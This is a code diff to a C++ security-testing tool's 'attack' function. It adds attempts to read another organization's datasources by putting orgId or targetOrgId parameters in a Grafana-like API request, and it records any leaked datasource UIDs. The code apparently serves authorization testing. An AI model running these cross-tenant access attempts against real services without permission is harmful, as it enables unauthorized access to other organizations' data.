@@ -139,6 +139,14 @@ Result<AttackOutcome> attack(const Attack& attack) {
     PV_TRY_VOID(try_all(ways, *http, credential, own, "from their own organization", tried));
     if (theirs == own) return tried;
     PV_TRY_VOID(try_all(ways, *http, credential, theirs, "naming the other organization", tried));
+    for (const char* name : {"orgId", "targetOrgId"}) {
+      const std::string target = fmt::format("/api/datasources?{}={}", name, theirs);
+      PV_TRY(const HttpResponse switched, http->send({.target = target, .headers = {{"Authorization", credential}}}));
+      ++tried.tried;
+      for (const Datasource& source : victims.datasources) {
+        if (switched.body.find("\"" + source.uid + "\"") != std::string::npos) tried.leaks.push_back(fmt::format("their datasources by {} in the address: GET {} answered {}", name, target, switched.status));
+      }
+    }
     PV_TRY(const HttpResponse moved, http->send({.method = "POST", .target = fmt::format("/api/user/using/{}", theirs), .headers = {{"Authorization", credential}}}));
     ++tried.tried;
     if (moved.status / 100 == 2) tried.leaks.push_back(fmt::format("going over to their organization: POST /api/user/using/{} answered {}", theirs, moved.status));
